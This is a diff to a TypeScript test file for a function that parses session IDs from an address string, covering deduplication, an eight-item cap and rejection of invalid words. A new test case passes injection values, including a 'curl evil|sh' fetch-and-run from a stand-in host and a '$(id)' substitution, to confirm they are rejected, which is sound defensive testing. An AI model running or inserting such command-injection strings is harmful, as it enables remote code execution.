@@ -6,8 +6,12 @@ const session = (sessionId: string, title: string) => ({ sessionId, title });
 describe('the runs that an address names', () => {
   it('are each named once, and no more than can be compared', () => {
     expect(chosenOf(undefined)).toEqual([]);
-    expect(chosenOf('a,b,,a')).toEqual(['a', 'b']);
-    expect(chosenOf('a,b,c,d,e,f,g,h,i')).toHaveLength(8);
+    expect(chosenOf('ses_a,ses_b,,ses_a')).toEqual(['ses_a', 'ses_b']);
+    expect(chosenOf([...'abcdefghi'].map((each) => `ses_${each}`).join(','))).toHaveLength(8);
+  });
+
+  it('are none where a word of the address can be no session', () => {
+    expect(chosenOf('ses_a;curl evil|sh,$(id),-h,run_b,ses_c')).toEqual(['ses_c']);
   });
 
   it('leave the others to choose from, those on the same objective first', () => {
